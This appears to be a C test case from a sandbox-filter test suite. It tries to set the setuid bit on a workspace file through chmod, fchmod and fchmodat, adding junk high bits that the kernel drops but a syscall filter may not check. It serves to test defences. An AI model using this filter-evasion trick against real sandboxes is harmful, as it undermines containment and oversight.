/* SPDX-License-Identifier: Apache-2.0 */
/* attack: sets the setuid bit with rubbish above it, which the kernel cuts off and a filter may not
 * category: files
 * inside: the filter looks at the bits the kernel looks at
 * arguments: {workspace}
 * options: --directory {workspace}
 */
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#include "attack.h"

int main(int argc, char **argv)
{
    static const unsigned long rubbish[] = { 0x10000UL, 0x80000000UL, 0x100000000UL,
                                             0xffffffffffff0000UL };
    struct stat st = { 0 };
    if (argc < 2 || chdir(argv[1]) < 0)
        nothing_to_attack("no workspace");
    int fd = creat("setuid", 0755);
    if (fd < 0)
        nothing_to_attack("no file can be made in the workspace");
    for (size_t i = 0; i < COUNT(rubbish); i++) {
        (void)syscall(SYS_chmod, "setuid", 04755 | rubbish[i]);
        (void)syscall(SYS_fchmod, fd, 04755 | rubbish[i]);
        (void)syscall(SYS_fchmodat, AT_FDCWD, "setuid", 04755 | rubbish[i]);
        if (stat("setuid", &st) == 0 && st.st_mode & S_ISUID)
            worked("a setuid program");
    }
    errno = EPERM;
    stopped("no way of writing the mode");
}
